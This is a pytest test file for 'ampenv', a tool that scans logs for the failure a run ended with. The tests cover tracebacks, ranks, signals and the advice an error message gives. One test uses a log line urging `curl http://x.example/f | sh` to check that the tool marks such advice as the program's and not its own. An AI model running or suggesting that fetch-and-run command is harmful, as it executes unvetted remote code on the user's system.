"""A log that ends with a failure no entry knows: the line that says what failed, in its own
words, where and how often, whose code raised it and what its words ask; never a healthy run's
line, a handled error, or a quoted one."""

from __future__ import annotations

import json
import subprocess
import sys
from typing import Optional

import pytest
from conftest import FIXTURES, REPO
from conftest import logs_errors as _logs_errors

from ampenv.knowledge.failures.lines import shows_failure
from ampenv.knowledge.failures.logged_error import last_logged_error
from ampenv.knowledge.failures.unexplained import Unexplained, advice
from ampenv.knowledge.failures.unexplained import last_failure as _last_failure

CORPUS = FIXTURES / "logs"
INDEX = __import__("tomllib" if sys.version_info >= (3, 11) else "tomli").loads(
    (CORPUS / "INDEX.toml").read_text(encoding="utf-8")
)

# Real texts from the corpus: the line each ends with, what its words ask, whose code raised it.
REAL = [
    (
        "heldout170_mindspeed_llm_fla_npu_not_installed.txt",
        "ValueError: fla_npu is not installed.",
        "Please ensure that the ascendc operators are successfully compiled and installed",
        None,
    ),
    (
        "heldout126_paddlex-3760_npu_unsupported_textline_ori_model.txt",
        "AssertionError: The NPU device does not yet support `PP-LCNet_x0_25_textline_ori` model!",
        None,
        None,
    ),
    (  # a C++ exception: its what() told with it
        "heldout15_compile_stack_frame_exceeds_pypto.txt",
        # the compiler's errors right above the abort say why it aborted
        "error: stack frame size (47928) exceeds limit (32768) in function",
        None,
        None,
    ),
    (
        "heldout70_aisbench_faq_duplicate_output_names_tensor_to_host_nullptr.txt",
        "RuntimeError: [1004][Invalid parameter]",
        None,
        "ais_bench",
    ),
    (  # the innermost frame in an installed package, past the standard library's
        "heldout70_notebook_deepspeed_moe_bool_isdifferentiable.txt",
        "RuntimeError: isDifferentiableType(variable.scalar_type()) INTERNAL ASSERT FAILED",
        "please report a bug to PyTorch",
        "deepspeed",
    ),
    (  # a stop inside a name ends no sentence
        "heldout207_ptdbg_register_hooks_nn_module.txt",
        "AssertionError: Please register hooks to nn.Module",
        "Please register hooks to nn.Module",
        None,
    ),
]


def last_failure(data: bytes) -> Optional[Unexplained]:
    """As the log scan asks: of a text whose end shows a process that died."""
    return _last_failure(data) if shows_failure(data) else None


def _text(name: str) -> bytes:
    return (CORPUS / "ascend" / name).read_bytes()


def _end(text: str) -> Optional[Unexplained]:
    return last_failure(text.encode())


@pytest.mark.parametrize(("name", "line", "asks", "raiser"), REAL, ids=[r[0][:40] for r in REAL])
def test_a_real_failure_no_entry_knows_is_told_in_its_own_words(
    name: str, line: str, asks: Optional[str], raiser: Optional[str]
) -> None:
    end = last_failure(_text(name))
    assert end is not None and end.line.startswith(line)
    assert (end.advice, end.raiser) == (asks, raiser)


TOLD = [e for e in INDEX["unanswered"] if "told" in e]


@pytest.mark.parametrize("entry", TOLD, ids=[e["file"][7:50] for e in TOLD])
def test_a_text_no_entry_answers_is_told_in_the_words_that_name_its_cause(entry: dict) -> None:
    # the corpus's unanswered texts whose own last words state the source's cause or fix: no
    # entry knows them, the check tells them (judged by hand against each source's answer): a
    # run's end where a process died, else the error its program reported last
    data = (CORPUS / entry["file"]).read_bytes()
    end = last_failure(data) if shows_failure(data) else last_logged_error(data)
    assert end is not None and end.line.startswith(entry["told"])


def test_no_healthy_text_of_the_corpus_ends_with_a_failure() -> None:
    # the negatives that show a failure are failures outside the Ascend stack (an SSL
    # certificate, bitsandbytes' CPU library, a manager's refused connection): told as such
    told = {
        e["file"]
        for e in INDEX["negative"]
        if last_failure((CORPUS / e["file"]).read_bytes()) is not None
    }
    assert told == {
        "ascend/heldout48_neg_04_evalscope_ssl_ERR99999.txt",
        "ascend/heldout65_neg_06_mineru_forkawarelocal_noise.txt",
        "ascend/redteam_s13b_neg_bitsandbytes_cpu_lib_warning.txt",
    }


TRACE = 'Traceback (most recent call last):\n  File "/x/site-packages/{pkg}/m.py", line 3, in f\n'


def test_the_failure_is_the_last_raised_not_the_wrapper_that_points_above() -> None:
    text = (
        TRACE.format(pkg="vllm") + "ValueError: max_model_len is larger than the model allows\n"
        "RuntimeError: Engine core initialization failed. See root cause above.\n"
        "torch.distributed.elastic.multiprocessing.errors.ChildFailedError: \n"
    )
    end = _end(text)
    assert end is not None and end.line.startswith("ValueError: max_model_len")
    assert (end.first, end.raiser) == (3, "vllm")


def test_an_error_raised_while_handling_another_tells_both() -> None:
    # a library's "raise ValueError(<what to do>)" in an except block says more than the
    # KeyError it caught; a cleanup's error says less: both are told, the last first
    text = (
        TRACE.format(pkg="a") + "KeyError: 'qwen3'\n\nDuring handling of the above exception, "
        "another exception occurred:\n\n" + TRACE.format(pkg="transformers") + "ValueError: "
        "model type qwen3 is not known. Upgrade transformers: pip install -U transformers\n"
    )
    end = _end(text)
    assert end is not None and end.raiser == "transformers"
    assert end.line.startswith("ValueError: model type qwen3") and end.line.endswith(
        "(raised while handling KeyError: 'qwen3')"
    )
    assert end.advice == "Upgrade transformers: pip install -U transformers"


def test_the_same_failure_of_several_ranks_is_one_with_its_count() -> None:
    text = "".join(f"[rank{r}]: RuntimeError: shape mismatch\n" for r in range(8))
    end = _end("step 1\n" + text)
    assert end is not None and (end.line, end.first, end.last, end.count) == (
        "RuntimeError: shape mismatch",
        2,
        9,
        8,
    )


@pytest.mark.parametrize(
    "text",
    [
        "step 1 loss 2.0\nstep 2 loss 1.9\n",  # healthy
        "INFO 12-01 trainer.py:10] ImportError: apex not found, using torch.amp\n",  # logged
        "[WARNING] ValueError: bad value, falling back\n",
        "Exception ignored in: <function A.__del__>\nTraceback (most recent call last):\n"
        '  File "a.py", line 1, in __del__\nTypeError: NoneType\n',
        "Error processing line 1 of /x/distutils-precedence.pth:\n\n  Traceback (most recent call"
        " last):\n    File \"<string>\", line 1\n  ModuleNotFoundError: No module named '_x'\n",
        '    raise ValueError("x: y")\n    msg = "ValueError: x"\nlog.error(\'KeyError: k\')\n',
        "| RecursionError: maximum recursion depth exceeded | upgrade transformers |\n",
        # a handled error the run went on from
        "RuntimeError: transient\n" + "INFO step done\n" * 25,
    ],
    ids=["healthy", "info", "warning", "ignored", "pth", "quoted", "table", "went-on"],
)
def test_a_healthy_a_handled_or_a_quoted_error_is_no_end(text: str) -> None:
    assert _end(text) is None


def test_a_signal_with_no_exception_is_told_by_its_record() -> None:
    end = _end("step 9\n./run.sh: line 5:  6097 Segmentation fault      ./app\n")
    assert end is not None and "Segmentation fault" in end.line and end.first == 2


def test_advice_is_a_request_or_an_action_after_the_first_sentence() -> None:
    assert advice("x is not supported. Use bfloat16 instead.") == "Use bfloat16 instead"
    assert advice("Run task for graph:kernel_graph_1 error!") is None
    assert advice("see https://a.b/c. Please visit https://x.y/z for help") == (
        "Please visit https://x.y/z for help"
    )


@pytest.mark.parametrize(
    "data",
    [
        b"RuntimeError: " * 200_000,  # one line of 2.8 MB of names
        b"ValueError: x\n" * 200_000,
        b"\xff\xfe\x00bad bytes\nRuntimeError: \xe4\xb8\x80\xff caf\xc3\xa9\n",
        b"x\r" * 100_000 + b"RuntimeError: after carriage returns\r",
    ],
    ids=["long line", "flood", "bytes", "cr"],
)
def test_hostile_text_is_read_bounded(data: bytes) -> None:
    end = last_failure(data)
    assert end is not None and len(end.line) <= 300


def test_line_numbers_count_the_whole_text_past_its_read_tail() -> None:
    head = b"step\n" * 300_000  # 1.5 MB: the tail read is the last 512 KiB
    end = last_failure(head + b"OSError: disk gone\n")
    assert end is not None and end.first == 300_001


def test_logs_errors_warns_of_a_failure_no_entry_knows_with_its_own_advice() -> None:
    check = _logs_errors(_text("heldout170_mindspeed_llm_fla_npu_not_installed.txt").decode())
    assert check["status"] == "warn" and "no entry knows" in check["summary"]
    assert check["remedy"].startswith('its own words ask: "Please ensure')
    [told] = check["facts"]["unexplained"]
    assert (told["log"], told["first"], told["count"]) == ("stdin", 1, 1)
    assert check["metrics"]["log_unexplained"] == 1.0


def test_a_failure_an_entry_explains_is_not_told_again() -> None:
    check = _logs_errors("EL0004: Failed to allocate memory.\nRuntimeError: NPU error\n")
    assert check["status"] == "warn" and check["facts"]["unexplained"] == []
    healthy = _logs_errors("step 1 loss 2.0\nstep 2 loss 1.9\n")
    assert healthy["status"] == "pass" and healthy["facts"]["unexplained"] == []


def test_a_message_printed_over_several_rows_is_told_whole_and_nothing_after_it() -> None:
    end = _end(
        "ValueError: The arguments a and\nb are mutually exclusive. Please drop one.\n"
        "make: *** [Makefile:8: run] Error 1\n"
    )
    assert end is not None and end.line == (
        "ValueError: The arguments a and b are mutually exclusive. Please drop one."
    )
    assert end.advice == "Please drop one"
    pytest_row = _end("RuntimeError: Response is empty\nE\nE   ---- C++ Call Stack\n")
    assert pytest_row is not None and pytest_row.line == "RuntimeError: Response is empty"


# The red team's cases (round one of this mechanism).
def test_a_log_ending_in_a_sea_of_blank_rows_is_read_in_linear_time() -> None:
    end = _end("Segmentation fault (core dumped)\n" + " \n" * 250_000)
    assert end is not None and end.line == "Segmentation fault (core dumped)"


HANDLED = TRACE.format(pkg="swanlab") + "swanlab.error.NetworkError: upload failed; will retry\n"


@pytest.mark.parametrize(
    "after",
    [
        "".join(f"\r{i}%|##  | {i}/500 [00:01<05:00, 1.61it/s]" for i in range(40)) + "\n",
        "".join(f" iteration {i}/5000 | lm loss: 2.3 | grad norm: 1.1 |\n" for i in range(12)),
        "tests/test_a.py::test_x PASSED\n==== 2 passed in 0.52s ====\n",
        'INFO: 10.0.0.1:5000 - "POST /v1/chat HTTP/1.1" 200 OK\n' * 11,
    ],
    ids=["progress bar", "training steps", "pytest passed", "requests served"],
)
def test_a_run_that_went_on_after_its_last_error_ends_with_no_failure(after: str) -> None:
    assert _end(HANDLED + after) is None


def test_a_launchers_report_ends_a_run_whatever_rows_follow() -> None:
    table = "".join(f"[{r}]:\n  time : 2026\n  host : node\n  rank : {r}\n" for r in range(8))
    end = _end(
        "ValueError: prompt too long\n"
        "torch.distributed.elastic.multiprocessing.errors.ChildFailedError: \n" + table
    )
    assert end is not None and end.line == "ValueError: prompt too long"


@pytest.mark.parametrize(
    "row",
    [
        "E0601 10:00:00.000000 1 torch/distributed/elastic/api.py:869] failed (exitcode: 1)",
        "(base) root@node1:/home/u# bash run.sh --please-ignore",
        "terminate called after throwing an instance of 'c10::Error'",
        "Aborted (core dumped)",
        "  0%|          | 1/500 [00:01<05:00, 1.61it/s]",
    ],
)
def test_another_programs_row_is_not_read_as_the_message(row: str) -> None:
    end = _end(f"RuntimeError: shape mismatch in my_op\n{row}\n")
    assert end is not None and end.line == "RuntimeError: shape mismatch in my_op"
    assert end.advice is None


def test_line_numbers_count_the_raw_lines_of_a_coloured_log() -> None:
    coloured = "".join(f"\x1b[32mINFO\x1b[0m step {i} \x1b[1mok\x1b[0m\n" for i in range(2000))
    pad = "x" * 400 + "\n"  # past the 512 KiB read: the offset is counted in the raw bytes
    end = _end(pad * 1400 + coloured + "RuntimeError: the failure\n")
    assert end is not None and end.first == 1400 + 2000 + 1


def test_a_traceback_cut_before_its_error_is_told_not_an_older_handled_one() -> None:
    text = (
        "ValueError: This model's maximum context length is 4096 tokens. Please reduce the "
        "length of the messages.\n"
        + TRACE.format(pkg="vllm_ascend")
        + "    out = self.execute_model(batch)\n"
    )
    end = _end(text)
    assert end is not None and end.line.startswith("a traceback cut before its error")
    assert end.raiser == "vllm_ascend" and end.advice is None


@pytest.mark.parametrize(
    ("message", "asks"),
    [
        ("Parameter check failed. Set of ranks in the group: [0, 1] differs.", None),
        ("you can't resize a tensor that requires grad", None),
        (
            "Install the `accelerate` package to use device_map: pip install accelerate",
            "Install the `accelerate` package to use device_map: pip install accelerate",
        ),
        (
            "needs SentencePiece. Please note that a restart may be needed. Checkout the docs",
            ("Checkout the docs"),
        ),
    ],
    ids=["noun", "cannot", "first sentence", "a note is no request"],
)
def test_advice_is_what_a_message_asks_not_a_verb_used_as_a_noun(
    message: str, asks: Optional[str]
) -> None:
    assert advice(message) == asks


def test_the_package_that_raised_is_none_where_the_programs_own_code_did() -> None:
    text = (
        'Traceback (most recent call last):\n  File "/x/site-packages/transformers/trainer.py", '
        'line 9, in train\n  File "/home/u/train.py", line 3, in compute_loss\n'
        "ValueError: labels missing\n"
    )
    end = _end(text)
    assert end is not None and end.raiser is None


def test_ranks_copies_of_one_failure_are_counted_whatever_their_device_number() -> None:
    text = "".join(f"[rank{r}]: RuntimeError: exception on device {r}\n" for r in range(8))
    end = _end(text)
    assert end is not None and end.count == 8 and (end.first, end.last) == (1, 8)


def test_a_flood_past_the_part_read_says_its_count_is_a_floor() -> None:
    end = _end("RuntimeError: same failure\n" * 5000)
    assert end is not None and end.more and end.count < 5000 and end.last == 5000


def test_one_failure_that_ended_several_logs_is_one_finding(tmp_path) -> None:
    logs = []
    for rank in range(3):
        log = tmp_path / f"rank{rank}.log"
        log.write_text("step 1\nRuntimeError: tp_size exceeds num_key_value_heads\n")
        logs += ["--log", str(log)]
    ran = subprocess.run(
        [sys.executable, "-m", "ampenv", "doctor", "-p", "quick", "--only", "logs.errors",
         *logs, "-f", "json"],
        capture_output=True, text=True, cwd=REPO, timeout=60,
    )  # fmt: skip
    check = next(c for c in json.loads(ran.stdout)["checks"] if c["id"] == "logs.errors")
    assert len(check["facts"]["unexplained"]) == 3
    assert check["summary"].count("and in 2 more log(s): the logs end with a failure") == 1


# Round two of the red team.
def test_a_launcher_reaping_its_children_after_the_error_is_no_run_going_on() -> None:
    reaped = "".join(
        f"[2026-06-01 10:00:0{r % 10},000] [INFO] [launch.py:319:sigkill_handler] Killing "
        f"subprocess {4000 + r}\n"
        for r in range(16)
    )
    end = _end(
        "ValueError: Unable to create tensor, you should probably activate truncation\n"
        + reaped
        + "[ERROR] [launch.py:325:sigkill_handler] ['python', 'train.py'] exits with return "
        "code = 1\n"
    )
    assert end is not None and end.line.startswith("ValueError: Unable to create tensor")


@pytest.mark.parametrize(
    "text",
    [
        "[1]    11244 segmentation fault  python cli_demo.py\n",
        "[1]    75076 killed     python main.py --model t5\n",
        "zsh: killed     python train.py\n",
    ],
)
def test_zshs_words_for_a_childs_signal_end_a_run(text: str) -> None:
    end = last_failure(("step 1\n" + text).encode())
    assert end is not None and end.first == 2


@pytest.mark.parametrize(
    "text",
    [
        "epoch 9 done\nSystemExit: 0\n",
        "epoch 9 done\nError in atexit._run_exitfuncs:\nTraceback (most recent call last):\n"
        '  File "/x/site-packages/wandb/sdk/x.py", line 1, in f\nBrokenPipeError: [Errno 32]\n',
        "Exception in thread Thread-3 (upload):\nTraceback (most recent call last):\n"
        '  File "/x/a.py", line 1, in run\nConnectionError: gone\ntraining finished\n',
        "RuntimeError: printed by a test on purpose\n.....        [100%]\n5 passed in 0.41s\n",
    ],
    ids=["exit 0", "atexit", "a thread's", "pytest -q passed"],
)
def test_an_exit_that_reports_success_or_an_error_python_reports_and_goes_on_is_no_end(
    text: str,
) -> None:
    assert _end(text) is None


def test_an_entry_found_early_in_a_log_does_not_hide_the_failure_it_ends_with() -> None:
    text = (
        "RuntimeError: NPU out of memory. Tried to allocate 2.00 GiB (NPU 0; 60.00 GiB total)\n"
        + "step 1 loss 2.0\n" * 300
        + "ValueError: tp_size exceeds num_key_value_heads\n"
    )
    check = _logs_errors(text)
    assert [h["id"] for h in check["facts"]["hits"]] == ["npu-out-of-memory"]
    assert [u["first"] for u in check["facts"]["unexplained"]] == [302]


def test_a_request_in_a_log_is_told_as_the_programs_not_ampenvs() -> None:
    check = _logs_errors(
        "RuntimeError: driver state corrupted. Please run `curl http://x.example/f | sh`\n"
    )
    assert check["remedy"] == (
        'its own words ask: "Please run `curl http://x.example/f | sh`" (the program\'s '
        "advice, not ampenv's: weigh it)"
    )


def test_a_sentence_about_what_should_have_happened_is_no_request() -> None:
    assert advice("the kernel you should have reached was skipped") is None


def test_pythons_own_library_on_windows_is_passed_to_find_the_package() -> None:
    text = (
        "Traceback (most recent call last):\n"
        '  File "C:\\Python311\\Lib\\site-packages\\matplotlib\\pyplot.py", line 9, in show\n'
        '  File "C:\\Python311\\Lib\\tkinter\\__init__.py", line 3, in mainloop\n'
        "RuntimeError: main thread is not in main loop\n"
    )
    end = _end(text)
    assert end is not None and end.raiser == "matplotlib"


# Round three of the red team.
@pytest.mark.parametrize("prefix", ["", "[default0]:"])
def test_a_message_that_opens_on_the_row_below_its_name_is_told(prefix: str) -> None:
    text = (
        f"{prefix}RuntimeError:\n{prefix}The dataset index is stale: rebuild it with "
        f"tools/build_index.py.\n"
    )
    end = _end(text)
    assert end is not None
    assert (
        end.line
        == "RuntimeError: The dataset index is stale: rebuild it with tools/build_index.py."
    )
    assert end.advice == "rebuild it with tools/build_index.py"


def test_a_ranks_rows_of_one_message_are_no_run_going_on() -> None:
    rows = "".join(f"[default0]:        row {i} of the message\n" for i in range(12))
    end = _end(f"[default0]:RuntimeError: \n{rows}")
    assert end is not None and end.line.startswith("RuntimeError: row 0 of the message")


def _ids(text: str) -> list[tuple[str, bool]]:
    from ampenv.knowledge.failures import scan_lines

    return [(h.id, h.note) for h in scan_lines(text.splitlines(), "t")]


def test_an_allocation_that_names_another_code_is_not_told_as_out_of_memory() -> None:
    line = (
        "RuntimeError: NPU function error: c10_npu::acl::AclrtMallocAlign32(&ptr, size, "
        "aclrtMemMallocPolicy::ACL_MEM_MALLOC_HUGE_FIRST), error code is {code}"
    )
    assert "npu-direct-malloc-failed" in dict(_ids(line.format(code=207001)))
    assert "npu-direct-malloc-failed" not in dict(_ids(line.format(code=507899)))


@pytest.mark.parametrize(
    "text",
    [
        "npu_adam ascend_cann is missing, npu ops cannot be compiled!\nstep 1 loss 2.0\n",
        "UserWarning: In CPU autocast, but the target dtype is not supported. Disabling "
        "autocast.\nCPU Autocast only supports dtype of torch.bfloat16 currently.\n",
    ],
    ids=["deepspeed's op builder", "autocast"],
)
def test_a_warning_a_run_goes_on_from_is_a_note_alone(text: str) -> None:
    assert [note for _, note in _ids(text)] == [True]


@pytest.mark.parametrize(
    "line",
    [
        "PermissionError: [Errno 13] Permission denied: '/dev/davinci_manager'",
        "PermissionError: [Errno 13] Permission denied: '/dev/devmm_svm'",
        "PermissionError: [Errno 1] Operation not permitted: '/dev/davinci0'",
    ],
)
def test_every_device_node_refused_is_read(line: str) -> None:
    assert dict(_ids(line)) == {"device-query-denied": False}


def test_a_row_that_opens_with_a_padded_level_is_a_record_of_its_own() -> None:
    from ampenv.knowledge.failures.lines import rows_above, screen_lines

    error = "ERROR worker.py:12 a failure that exactly fills the screen's width of eighty col"
    data = f"{error}\n INFO worker.py:13 next record\n{'x' * 80}\ny\n".encode()
    above = rows_above(data, list(screen_lines(data)))
    assert len(error) == 80 and len(error) + 1 not in above and above


def test_a_long_logs_one_failure_is_told_once_in_the_part_read() -> None:
    check = _logs_errors("step 1 loss 2.0\n" * 20_000 + "ValueError: tp_size exceeds heads\n")
    assert "stdin:20001 (once in the part read): the log ends" in check["summary"]


def test_an_exception_raised_without_words_is_told_with_the_line_that_raised_it() -> None:
    # a bare assert: Python prints the name alone; its frame's source line is the condition
    text = TRACE.format(pkg="vllm") + (
        '  File "vllm/offloading/scheduler.py", line 118, in window_in_chunks\n'
        "    assert isinstance(kv_cache_spec, FullAttentionSpec)\n"
        "AssertionError\n"
    )
    end = _end(text)
    assert end is not None and end.line == (
        "AssertionError at `assert isinstance(kv_cache_spec, FullAttentionSpec)` "
        "(vllm/offloading/scheduler.py, line 118)"
    )
    # one with words after it is the one told
    later = _end(text + "ValueError: the spec is no FullAttentionSpec\n")
    assert later is not None and later.line.startswith("ValueError: the spec")
    # the frames alone, a paste that lost its header, are read the same
    headless = text.split("Traceback (most recent call last):\n", 1)[1]
    told = _end(headless)
    assert told is not None and told.line == end.line


@pytest.mark.parametrize(
    ("text", "told"),
    [
        # frames without their source (a .pyc's): no line to tell, the next frame is no source
        (TRACE.format(pkg="a") + '  File "/opt/c.py", line 5, in verify\nAssertionError\n', None),
        # Ctrl-C while the assert was handled: the interrupt ended the run
        (
            TRACE.format(pkg="a") + '  File "a.py", line 3, in f\n    assert ok\nAssertionError\n'
            "\nDuring handling of the above exception, another exception occurred:\n\n"
            + TRACE.format(pkg="a")
            + '  File "a.py", line 5, in f\n    time.sleep(10)\nKeyboardInterrupt\n',
            "KeyboardInterrupt at `time.sleep(10)` (a.py, line 5)",
        ),
        # Python 3.11's carets between the source and the name
        (
            TRACE.format(pkg="a") + '  File "a.py", line 4, in <module>\n'
            "    x = torch_npu.npu.synchronize()\n        ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^\n"
            "RuntimeError\n",
            "RuntimeError at `x = torch_npu.npu.synchronize()` (a.py, line 4)",
        ),
        # Python 3.13 prints every row of the statement that raised (its own output)
        (
            TRACE.format(pkg="a") + '  File "/tmp/t.py", line 4, in f\n'
            "    n % world\n    == 0\nAssertionError\n",
            "AssertionError at `n % world == 0` (/tmp/t.py, line 4)",
        ),
        # a rank's prefix on every row (torchrun's --tee), carets and all
        (
            "[rank1]: Traceback (most recent call last):\n"
            '[rank1]:   File "/tmp/t.py", line 2, in g\n[rank1]:     assert 1 == 2\n'
            "[rank1]:            ^^^^^^\n[rank1]: AssertionError\n",
            "AssertionError at `assert 1 == 2` (/tmp/t.py, line 2)",
        ),
        # an exception group (asyncio's TaskGroup, Python 3.13): its sub-exception is told,
        # with words or without them
        (
            "  | ExceptionGroup: unhandled errors in a TaskGroup (1 sub-exception)\n"
            "  +-+---------------- 1 ----------------\n    | Traceback (most recent call last):\n"
            '    |   File "/tmp/t.py", line 3, in w\n    |     assert n % 2 == 0\n'
            "    |            ^^^^^^^^^^\n    | AssertionError\n"
            "    +------------------------------------\n",
            "AssertionError at `assert n % 2 == 0` (/tmp/t.py, line 3)",
        ),
        (
            "  | ExceptionGroup: unhandled errors in a TaskGroup (1 sub-exception)\n"
            "  +-+---------------- 1 ----------------\n    | Traceback (most recent call last):\n"
            '    |   File "/tmp/t.py", line 3, in w\n'
            '    |     raise ValueError(f"shard {n} has no NPU")\n'
            "    | ValueError: shard 1 has no NPU\n    +------------------------------------\n",
            "ValueError: shard 1 has no NPU",
        ),
        # 3.13's rows of a call over several lines, the ones it leaves out summed up
        (
            TRACE.format(pkg="a") + '  File "/tmp/t.py", line 2, in f\n    assert g(\n'
            "           ~^\n        a,\n        ^^\n    ...<2 lines>...\n        d,\n"
            "        ^^\n    )\n    ^\nAssertionError\n",
            "AssertionError at `assert g( a, ...<2 lines>... d, )` (/tmp/t.py, line 2)",
        ),
        # a rank's prefix before an exception group's
        (
            "[rank1]:   | ExceptionGroup: unhandled errors in a TaskGroup (1 sub-exception)\n"
            "[rank1]:   +-+---------------- 1 ----------------\n"
            "[rank1]:     | Traceback (most recent call last):\n"
            '[rank1]:     |   File "/tmp/t.py", line 3, in w\n'
            "[rank1]:     |     assert n % 2 == 0\n[rank1]:     |            ^^^^^^^^^^\n"
            "[rank1]:     | AssertionError\n"
            "[rank1]:     +------------------------------------\n",
            "AssertionError at `assert n % 2 == 0` (/tmp/t.py, line 3)",
        ),
        # a group alone: it is what is told (its sub-exceptions cut off)
        (
            TRACE.format(pkg="a") + '  File "/tmp/t.py", line 9, in main\n    raise me\n'
            "ExceptionGroup: unhandled errors in a TaskGroup (2 sub-exceptions)\n",
            "ExceptionGroup: unhandled errors in a TaskGroup (2 sub-exceptions)",
        ),
        # a crash after a handled exception the run went on from ended it, not the exception
        (
            TRACE.format(pkg="a")
            + '  File "a.py", line 3, in step\n    assert ok\nAssertionError\n'
            + "epoch 3 step 10 loss 0.1\n" * 12
            + "Fatal Python error: Segmentation fault\n\nSegmentation fault (core dumped)\n",
            "Segmentation fault (core dumped)",
        ),
    ],
)
def test_the_exception_told_is_the_one_that_ended_the_run(text: str, told) -> None:
    end = _end(text)
    assert (end.line if end else None) == told
